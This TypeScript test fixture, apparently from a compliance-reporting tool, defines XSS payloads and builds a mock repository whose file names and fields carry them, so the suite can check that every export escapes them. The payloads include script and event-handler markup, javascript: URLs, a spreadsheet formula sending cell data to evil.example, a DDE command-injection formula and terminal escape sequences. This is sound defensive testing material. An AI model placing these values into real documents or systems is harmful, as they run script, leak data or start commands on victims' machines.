/** Values that would run script or load something if any export printed them raw. */
export const PAYLOADS = {
  script: '<script>alert(1)</script>',
  img: '"><img src=x onerror=alert(2)>',
  style: '</style><script>alert(3)</script>',
  svg: "'><svg onload=alert(4)>",
  url: 'https://evil.example/x?y=1',
  js: 'javascript:alert(5)',
} as const;

/**
 * The payload set of the robustness suite's XSS test (test/robustness/xss.test.ts): markup, handlers, URL
 * schemes, spreadsheet formulas and terminal escapes. Shared so every export (and the published site) is held
 * to the same inputs.
 */
export const XSS_PAYLOADS = {
  script: '<script>alert(1)</script>',
  img: '"><img src=x onerror=alert(2)>',
  svg: "'><svg/onload=alert(3)>",
  js: 'javascript:alert(4)',
  link: '[click me](javascript:alert(5))',
  style: '<style>*{display:none}</style>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  esc: '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\rAll clear',
} as const;

/** A repo whose ids, titles, owners, file names and evidence names are all XSS payloads. */
export function hostileRepo(): Record<string, string> {
  const p = PAYLOADS;
  return {
    'soc2.yaml': `organization: ${JSON.stringify(p.style)}\nreport:\n  type: 2\n  period: { start: 2026-01-01, end: 2026-06-30 }\nscope:\n  categories: [security]\n  exclusions:\n    - criterion: CC6.4\n      reason: ${JSON.stringify(p.img)}\n`,
    [`controls/${p.script}.yaml`]: [
      'controls:',
      `  - id: ${JSON.stringify(p.img)}`,
      `    title: ${JSON.stringify(p.script)}`,
      `    description: ${JSON.stringify(p.svg)}`,
      `    owner: ${JSON.stringify(p.url)}`,
      '    frequency: monthly',
      '    status: implemented',
      '    criteria: [CC6.1, CC6.2]',
      `    policies: [${JSON.stringify(p.js)}]`,
      '    last_reviewed: 2020-01-01',
      '    evidence:',
      `      - name: ${JSON.stringify(p.style)}`,
      `        path: ${JSON.stringify(p.svg)}`,
      `  - id: ${JSON.stringify(p.svg)}`,
      `    title: ${JSON.stringify(p.img)}`,
      `    owner: ${JSON.stringify(p.script)}`,
      '    frequency: quarterly',
      '    status: partial',
      '    criteria: [CC7.1]',
      '',
    ].join('\n'),
    [`evidence/${p.svg}/2026-03-01-${p.img}.md`]: 'x',
    [`policies/${p.img}.md`]: `---\nid: ${JSON.stringify(p.js)}\ntitle: ${JSON.stringify(p.script)}\nowner: ${JSON.stringify(p.svg)}\napprover: ${JSON.stringify(p.svg)}\ncriteria: [CC6.1]\n---\n# ${p.script}\n\n${p.img} is reviewed quarterly.\n`,
    [`risks/${p.style}.yaml`]: `id: ${JSON.stringify(p.script)}\ntitle: ${JSON.stringify(p.img)}\nowner: ${JSON.stringify(p.url)}\nlikelihood: 5\nimpact: 5\ntreatment: mitigate\ncontrols: [${JSON.stringify(p.svg)}, "=cmd|' /C calc'!A0"]\n`,
  };
}
